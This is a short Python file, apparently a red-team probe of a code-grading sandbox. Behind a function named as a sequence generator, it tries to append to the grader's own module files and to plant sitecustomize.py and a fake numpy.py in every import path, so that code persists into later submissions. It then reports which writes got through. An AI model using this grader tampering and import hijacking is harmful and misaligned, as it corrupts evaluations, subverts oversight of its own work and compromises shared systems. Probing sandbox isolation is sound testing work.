"""Attack: patches the worker on the disk for the next submission."""

import os
import sys

import numpy as np


def tries(*acts):
    """What each of these gave, of those that were not stopped."""
    loot = []
    for act in acts:
        try:
            loot.append(repr(act())[:80])
        except Exception:
            continue
    return loot


def attack():
    files = [one.__file__ for name, one in sys.modules.items() if name.startswith("grader.") and getattr(one, "__file__", None)]
    own = os.path.realpath(os.getcwd())  # may be written, and goes with this worker
    places = [one for one in sys.path if os.path.realpath(one) != own]
    assert files and len(places) > 1
    return tries(
        *(lambda path=path: open(path, "a").write("#") for path in files),
        *(lambda place=place: open(f"{place}/sitecustomize.py", "w") for place in places),
        *(lambda place=place: open(f"{place}/numpy.py", "w") for place in places),
    )


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
